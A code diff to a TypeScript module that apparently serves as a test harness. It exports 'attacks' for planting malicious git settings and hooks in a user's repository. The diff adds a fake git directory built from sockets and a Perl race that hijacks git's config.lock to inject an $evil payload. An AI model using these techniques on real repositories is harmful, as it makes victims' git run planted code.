@@ -62,6 +62,9 @@ const headText = 'ref: refs/heads/main';
 /** Turns a directory with settings into a git directory, and gives watchers time to see it. */
 const complete = (at: string) => `mkdir ${at}/objects ${at}/refs; echo ${headText} > ${at}/HEAD; git -C ${at} status`;
 
+/** git only asks whether the names exist and are executable. */
+const bindSockets = `perl -MSocket -e 'for (qw(objects refs)) { socket(my $s, AF_UNIX, SOCK_STREAM, 0); bind($s, pack_sockaddr_un($_)) }'`;
+
 /** Ways to put a setting or a hook where the user's git obeys it. */
 export const attacks: Readonly<Record<string, (target: Target, plant: Plant) => string>> = {
   'git config': ({ work }, { key, value }) => `git -C ${work} config '${key}' '${value}'`,
@@ -106,6 +109,8 @@ export const attacks: Readonly<Record<string, (target: Target, plant: Plant) => 
   'made by hand': ({ git }, { file }) => `${assemble(git, file)}; echo ${headText} > ${git}/HEAD`,
   'made by hand, HEAD moved in': ({ git }, { file }) =>
     `${assemble(git, file)}; echo ${headText} > head-$$; mv head-$$ ${git}/HEAD`,
+  'made of sockets': (_, { file }) =>
+    `mkdir bound-$$; cp ${file} bound-$$/config; echo ${headText} > bound-$$/HEAD; cd bound-$$; ${bindSockets}`,
   'made elsewhere and moved in': ({ git, work }, { file }) =>
     `${assemble('parts-$$', file)}; echo ${headText} > parts-$$/HEAD; mkdir -p ${work}; mv -T parts-$$ ${git} || mv -T parts-$$ ${git}-$$`,
   'made outside and copied in': ({ git, work }, { file }) =>
@@ -175,6 +180,12 @@ export const loop = `perl -e '
         put(">", "next$$", $config . $evil) and rename("next$$", "$git/config");
         put(">", "next$$", $config . $evil) and syscall(${exchangeCall}, -100, "next$$", -100, "$git/config", 2);
       }
+      # What git of the person is about to rename over its settings.
+      if (-e "$git/config.lock") {
+        link("$git/config.lock", "$git/alias$$");
+        rename("$git/config.lock", "$git/taken$$") and put(">", "$git/config.lock", $config . $evil);
+      }
+      put(">>", "$git/alias$$", $evil) if -e "$git/alias$$";
       mkdir "$git/hooks";
       # A program that is open for writing cannot be run.
       next if slurp("$git/hooks/pre-commit") eq $hook;
